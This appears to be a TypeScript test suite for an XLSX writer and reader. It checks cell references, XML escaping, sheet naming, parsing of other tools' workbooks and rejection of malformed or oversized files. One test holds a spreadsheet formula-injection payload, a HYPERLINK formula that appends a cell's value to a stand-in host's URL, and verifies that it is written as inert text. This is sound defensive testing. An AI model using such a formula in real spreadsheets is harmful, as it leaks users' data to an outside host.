import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { columnName, parseCellRef } from "./cell-refs";
import { readXlsx, sanitizeSheetName, writeXlsx, XlsxReadError } from "./xlsx";

const partsOf = (bytes: Uint8Array) => Object.fromEntries(Object.entries(unzipSync(bytes)).map(([name, data]) => [name, strFromU8(data)]));

describe("cell references", () => {
  it("name columns beyond Z as spreadsheets do", () => {
    expect([0, 25, 26, 27, 51, 52, 701, 702, 16_383].map(columnName)).toEqual(["A", "Z", "AA", "AB", "AZ", "BA", "ZZ", "AAA", "XFD"]);
  });

  it("read references back, and refuse those beyond a spreadsheet's limits", () => {
    expect(parseCellRef("C5")).toEqual({ column: 2, row: 4 });
    expect(parseCellRef("AB12")).toEqual({ column: 27, row: 11 });
    expect(parseCellRef("$XFD$1048576")).toEqual({ column: 16_383, row: 1_048_575 });
    expect(parseCellRef("XFE1")).toBeUndefined();
    expect(parseCellRef("A0")).toBeUndefined();
    expect(parseCellRef("1A")).toBeUndefined();
  });
});

describe("writeXlsx then readXlsx", () => {
  it("give back the same values: text, numbers, dates, empty cells", () => {
    const bytes = writeXlsx([
      {
        name: "Offres",
        header: ["Qui", "Places", "Vérifiée le", "Rendez-vous"],
        rows: [
          ["CCAS", 12, new Date(Date.UTC(2026, 1, 1)), new Date(Date.UTC(2026, 1, 3, 14, 30))],
          ["Médiathèque", 0.5, null, null],
          ["  espaces autour  ", -3, null, "ligne 1\nligne 2\r\nligne 3\ttab"],
        ],
      },
      { name: "Deuxième", header: ["Seule"], rows: [] },
    ]);
    expect(readXlsx(bytes)).toEqual([
      {
        name: "Offres",
        rows: [
          ["Qui", "Places", "Vérifiée le", "Rendez-vous"],
          ["CCAS", "12", "2026-02-01", "2026-02-03T14:30:00"],
          ["Médiathèque", "0.5"],
          ["  espaces autour  ", "-3", "", "ligne 1\nligne 2\r\nligne 3\ttab"],
        ],
      },
      { name: "Deuxième", rows: [["Seule"]] },
    ]);
  });

  it("escape & < > \" ' and drop the characters XML cannot hold", () => {
    const hostile = `Tom & Jerry <b>"gras"</b> l'a dit\u0000\u0007\u001f\uFFFE fin \uD800`;
    const bytes = writeXlsx([{ name: "A", header: ["Valeur"], rows: [[hostile]] }]);
    expect(partsOf(bytes)["xl/sharedStrings.xml"]).toContain("Tom &amp; Jerry &lt;b&gt;&quot;gras&quot;&lt;/b&gt; l&apos;a dit fin ");
    expect(readXlsx(bytes)[0]!.rows[1]).toEqual([`Tom & Jerry <b>"gras"</b> l'a dit fin `]);
  });

  it("keep text that looks like OOXML's own escapes (_x0041_) as it was", () => {
    const bytes = writeXlsx([{ name: "A", header: ["Code"], rows: [["réf_x0041_B"]] }]);
    expect(readXlsx(bytes)[0]!.rows[1]).toEqual(["réf_x0041_B"]);
  });

  it("write a value starting with = as inert text, never as a formula", () => {
    const formula = '=HYPERLINK("http://exemple.invalid/?vol="&A1,"Cliquez")';
    const bytes = writeXlsx([{ name: "A", header: ["Lien"], rows: [[formula], ["+33 1 23"], ["@SUM(A1)"]] }]);
    const sheet = partsOf(bytes)["xl/worksheets/sheet1.xml"]!;
    expect(sheet).not.toContain("<f>");
    expect(sheet).toContain('<c r="A2" t="s">');
    expect(readXlsx(bytes)[0]!.rows.slice(1)).toEqual([[formula], ["+33 1 23"], ["@SUM(A1)"]]);
  });

  it("place cells beyond Z and after empty cells by their references", () => {
    const row: (string | null)[] = Array.from({ length: 30 }, () => null);
    row[0] = "début";
    row[27] = "AB";
    row[29] = "AD";
    const bytes = writeXlsx([{ name: "Large", header: ["A"], rows: [row] }]);
    const sheet = partsOf(bytes)["xl/worksheets/sheet1.xml"]!;
    expect(sheet).toContain('<c r="AB2" t="s">');
    expect(sheet).not.toContain('r="B2"');
    const read = readXlsx(bytes)[0]!.rows[1]!;
    expect(read).toHaveLength(30);
    expect([read[0], read[1], read[27], read[28], read[29]]).toEqual(["début", "", "AB", "", "AD"]);
  });

  it("make the header bold, frozen and filtered, with column widths", () => {
    const parts = partsOf(writeXlsx([{ name: "A", header: ["Qui", "Quoi"], rows: [["x", "y"], ["z", "t"]], columnWidths: [30, 12] }]));
    const sheet = parts["xl/worksheets/sheet1.xml"]!;
    expect(sheet).toContain('<c r="A1" s="1" t="s">');
    expect(sheet).toContain('state="frozen"');
    expect(sheet).toContain('<autoFilter ref="A1:B3"/>');
    expect(sheet).toContain('<col min="1" max="1" width="30" customWidth="1"/><col min="2" max="2" width="12" customWidth="1"/>');
    expect(parts["xl/styles.xml"]).toMatch(/<font><b\/>/);
    expect(parts["xl/workbook.xml"]).toContain(`<definedName name="_xlnm._FilterDatabase" localSheetId="0" hidden="1">&apos;A&apos;!$A$1:$B$3</definedName>`);
    expect(Object.keys(parts)).toEqual(expect.arrayContaining(["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"]));
  });
});

describe("sheet names", () => {
  it("drop what Excel refuses, shorten to 31 characters and stay unique", () => {
    const taken = new Set<string>();
    expect(sanitizeSheetName("Bilan [2026]: a/b\\c*?", taken, 0)).toBe("Bilan 2026 a b c");
    expect(sanitizeSheetName("'Matrice'", taken, 1)).toBe("Matrice");
    expect(sanitizeSheetName("matrice", taken, 2)).toBe("matrice (2)");
    expect(sanitizeSheetName("Un nom bien trop long pour un onglet de tableur", taken, 3)).toBe("Un nom bien trop long pour un o");
    expect(sanitizeSheetName(" :/ ", taken, 4)).toBe("Feuille 5");
    expect(sanitizeSheetName("History", taken, 5)).toBe("History (2)");
  });
});

/** A workbook as other tools write it: namespace prefixes, inline strings, rich text, booleans, no references. */
function handWrittenWorkbook(sheet2: string): Uint8Array {
  const main = 'xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  return zipSync({
    "_rels/.rels": strToU8(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="${rel}/officeDocument" Target="/xl/workbook.xml"/></Relationships>`),
    "xl/workbook.xml": strToU8(
      `<?xml version="1.0"?><x:workbook ${main} xmlns:r="${rel}"><x:workbookPr date1904="1"/><x:sheets><x:sheet name="Premi&#232;re" sheetId="7" r:id="s2"/><x:sheet name="Seconde" sheetId="3" r:id="s1"/></x:sheets></x:workbook>`,
    ),
    "xl/_rels/workbook.xml.rels": strToU8(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="s2" Type="${rel}/worksheet" Target="./worksheets/../worksheets/sheet2.xml"/><Relationship Id="ss" Type="${rel}/sharedStrings" Target="strings.xml"/><Relationship Id="st" Type="${rel}/styles" Target="styles.xml"/></Relationships>`,
    ),
    "xl/strings.xml": strToU8(
      `<sst ${main}><x:si><x:t>simple</x:t></x:si><x:si><x:r><x:rPr><x:b/></x:rPr><x:t>gr</x:t></x:r><x:r><x:t xml:space="preserve">as </x:t></x:r><x:rPh sb="0" eb="1"><x:t>phonetic</x:t></x:rPh></x:si></sst>`,
    ),
    "xl/styles.xml": strToU8(`<styleSheet ${main.replace(":x", "")}><numFmts><numFmt numFmtId="200" formatCode="[$-40C]d\\ mmmm\\ yyyy"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="200"/><xf numFmtId="4"/><xf numFmtId="20"/></cellXfs></styleSheet>`),
    "xl/worksheets/sheet1.xml": strToU8(`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c><v>1</v></c></row></sheetData></worksheet>`),
    "xl/worksheets/sheet2.xml": strToU8(sheet2),
  });
}

describe("readXlsx", () => {
  it("reads what other tools write, sheets in the workbook's order", () => {
    const sheet = `<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData>
      <x:row r="1"><x:c r="A1" t="s"><x:v>0</x:v></x:c><x:c r="C1" t="s"><x:v>1</x:v></x:c><x:c r="D1" t="inlineStr"><x:is><x:t>en ligne &amp; _x000D_retour</x:t></x:is></x:c></x:row>
      <x:row r="3"><x:c t="b"><x:v>1</x:v></x:c><x:c t="b"><x:v>0</x:v></x:c><x:c t="e"><x:v>#N/A</x:v></x:c><x:c t="str"><x:f>A1&amp;"!"</x:f><x:v>simple!</x:v></x:c></x:row>
      <x:row r="4"><x:c r="B4" s="1"><x:v>0</x:v></x:c><x:c r="C4" s="2"><x:v>1234.5</x:v></x:c><x:c r="D4"><x:f>1+1</x:f><x:v>2</x:v></x:c><x:c r="E4" s="3"><x:v>0.4375</x:v></x:c></x:row>
      <x:row r="5"><x:c r="A5" s="1"/></x:row>
    </x:sheetData></x:worksheet>`;
    expect(readXlsx(handWrittenWorkbook(sheet))).toEqual([
      {
        name: "Première",
        rows: [["simple", "", "gras ", "en ligne & \rretour"], [], ["TRUE", "FALSE", "#N/A", "simple!"], ["", "1904-01-01", "1234.5", "2", "10:30:00"]],
      },
      { name: "Seconde", rows: [["1"]] },
    ]);
  });

  it("refuses a file that is not an XLSX, saying so", () => {
    expect(() => readXlsx(strToU8("Qui;Quoi\nCCAS;Démarches\n"))).toThrow(new XlsxReadError("Ce fichier n'est pas un classeur XLSX (Excel, LibreOffice) : ce n'est pas une archive zip lisible."));
    expect(() => readXlsx(new Uint8Array())).toThrow(XlsxReadError);
    const otherZip = zipSync({ "word/document.xml": strToU8("<document/>") });
    expect(() => readXlsx(otherZip)).toThrow("il ne contient pas de classeur");
  });

  it("refuses a cell reference no spreadsheet has, broken XML, and an oversized package before inflating it", () => {
    const sheet = `<worksheet><sheetData><row r="1"><c r="ZZZZ1"><v>1</v></c></row></sheetData></worksheet>`;
    expect(() => readXlsx(handWrittenWorkbook(sheet))).toThrow("la cellule « ZZZZ1 »");
    expect(() => readXlsx(handWrittenWorkbook(`<worksheet><sheetData><row><c r="A1" <v>1</v></c>`))).toThrow("une de ses parties est illisible");
    const big = writeXlsx([{ name: "A", header: ["x".repeat(5000)], rows: [] }]);
    expect(() => readXlsx(big, { maxUncompressedBytes: 4000 })).toThrow("trop volumineux");
  });
});

describe("writeXlsx, twice", () => {
  it("writes the same bytes for the same workbook, whatever the time (a download's ETag holds)", async () => {
    const sheet = { name: "Feuille", header: ["A"], rows: [["x"]] };
    const first = writeXlsx([sheet]);
    // Zip entries carry times to 2 seconds.
    await new Promise((resolve) => setTimeout(resolve, 2100));
    expect(Buffer.from(writeXlsx([sheet])).equals(Buffer.from(first))).toBe(true);
  });
});
